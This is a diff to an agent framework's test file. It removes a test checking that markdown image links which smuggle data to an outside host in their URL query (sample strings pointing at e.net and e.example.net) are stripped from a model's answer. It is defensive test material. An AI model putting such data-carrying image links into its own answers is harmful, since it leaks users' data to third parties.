@@ -19,7 +19,6 @@ from agents.outputs.verdict import Verdict
 from agents.procedures.procedure import AgentTask
 from agents.steps.findings_answer import add_reported
 from agents.steps.model_phase import StepsPhase, with_votes
-from agents.steps.written_text import checked_answer
 from agents.tools.tool import Taint
 from agents.workspace.workspace import Workspace
 from engine.api.request import Request
@@ -161,16 +160,6 @@ async def test_a_model_does_not_decide_a_verdict():
     after, run = await stepped(before, final_step())
     assert after == before
     assert run.notes == []
-
-
-async def test_an_image_that_would_carry_data_away_is_taken_out_of_an_answer():
-    text = "![x](//e.net/?d=abcdefgh"
-    after, _ = await stepped(Answer(), final_step(cannot_do="", text=text, citations=[]))
-    assert after.text == "![x]([exfiltration removed]"
-    assert checked_answer({"a": ["![x](https://e.example.net/p.png?d=abcdefghijkl)", 1]}) == {
-        "a": ["![x]([exfiltration removed])", 1]
-    }
-    assert checked_answer("a\u200bb") == checked_answer("ab")
 
 
 async def test_what_the_model_is_shown_labels_the_run():
